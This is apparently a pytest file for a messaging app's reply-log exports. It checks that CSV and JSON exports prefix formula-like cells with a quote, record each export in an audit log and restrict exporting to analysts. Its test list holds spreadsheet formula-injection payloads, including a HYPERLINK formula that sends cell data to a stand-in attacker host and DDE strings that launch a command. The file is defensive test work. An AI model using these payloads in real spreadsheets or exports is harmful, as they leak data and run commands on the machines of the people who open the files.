"""Exports of the filtered reply log: formula injection neutralised, every export audited."""

from __future__ import annotations

import csv
import io
import json

import pytest
from flask import Flask
from flask.testing import FlaskClient

from messaging.csv_safety import safe_cell
from messaging.db import db
from messaging.inbound.exports import to_csv, to_json
from tests.campaigns.replies.helpers import audit_entries, sign_in, store_reply
from tests.support.factories import make_contacts, make_line, make_user

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "|cmd /C calc",
]


@pytest.mark.parametrize("cell", INJECTIONS)
def test_a_cell_that_a_spreadsheet_would_run_is_neutralised(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["who is this", "07700 900123", "", " =1", "'quoted", "a=b"])
def test_ordinary_cells_are_left_alone(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_csv_and_json_writers_neutralise_every_string_cell() -> None:
    rows = [{"reply_id": 1, "reply_text": "=1+1", "notes": "@x", "urgent": True}]
    parsed = list(csv.DictReader(io.StringIO(to_csv(rows, ("reply_id", "reply_text", "notes")))))
    assert parsed == [{"reply_id": "1", "reply_text": "'=1+1", "notes": "'@x"}]
    assert json.loads(to_json(rows)) == [
        {"reply_id": 1, "reply_text": "'=1+1", "notes": "'@x", "urgent": True}
    ]


@pytest.fixture
def analyst(app: Flask) -> FlaskClient:
    line = make_line(name="Tony")
    make_contacts(line, ["+447700900701", "+447700900702"])
    for body in INJECTIONS:
        store_reply("+447700900701", body)
    store_reply("+447700900702", "who is this? new line is 07700 900799")
    client = app.test_client()
    sign_in(client, make_user(role="analyst"))
    return client


@pytest.mark.postgres
def test_the_csv_export_is_the_filtered_set_with_every_cell_safe(analyst: FlaskClient) -> None:
    response = analyst.get("/replies/export/replies.csv?label=supply_intel")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert [r["reply_text"] for r in rows] == ["who is this? new line is 07700 900799"]
    assert rows[0]["from_number"] == "'+447700900702"  # E.164 starts with +: neutralised too
    assert rows[0]["numbers_mentioned"] == "'+447700900799 (new)"

    everything = analyst.get("/replies/export/replies.csv").text.lstrip("\ufeff")
    cells = [cell for row in csv.reader(io.StringIO(everything)) for cell in row]
    assert len(cells) > len(INJECTIONS)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    texts = [r["reply_text"] for r in csv.DictReader(io.StringIO(everything))]
    assert sorted(texts[1:]) == sorted("'" + cell for cell in INJECTIONS)


def test_the_json_export_is_neutralised_too(analyst: FlaskClient) -> None:
    response = analyst.get("/replies/export/replies.json")
    assert response.status_code == 200
    rows = response.get_json()
    assert len(rows) == len(INJECTIONS) + 1
    for row in rows:
        for value in row.values():
            assert not (isinstance(value, str) and value.startswith(tuple("=+-@\t\r"))), value


def test_every_export_is_recorded_with_who_what_filter_and_how_many_rows(
    analyst: FlaskClient,
) -> None:
    analyst.get("/replies/export/replies.csv?label=supply_intel&q=new+line")
    analyst.get("/replies/export/replies.json")
    first, second = audit_entries("replies_exported")
    assert first.category == second.category == "disclosure"
    assert first.actor.startswith("user:") and first.actor_id is not None
    assert first.details["format"] == "csv"
    assert first.details["filter"] == {"label": "supply_intel", "search": "words"}
    assert first.details["rows"] == 1
    assert (second.details["format"], second.details["rows"]) == ("json", len(INJECTIONS) + 1)
    assert "new line" not in json.dumps(first.details)  # the search words are not kept


def test_a_bad_filter_exports_nothing(analyst: FlaskClient) -> None:
    response = analyst.get("/replies/export/replies.csv?from=yesterday")
    assert response.status_code == 302
    assert audit_entries("replies_exported") == []


@pytest.mark.parametrize("role", ["supervisor", "officer", "admin"])
def test_only_analysts_export(app: Flask, role: str) -> None:
    client = app.test_client()
    sign_in(client, make_user(role=role))
    assert client.get("/replies/export/replies.csv").status_code == 403
    assert client.get("/replies/export/replies.json").status_code == 403
    db.session.rollback()
    assert audit_entries("replies_exported") == []
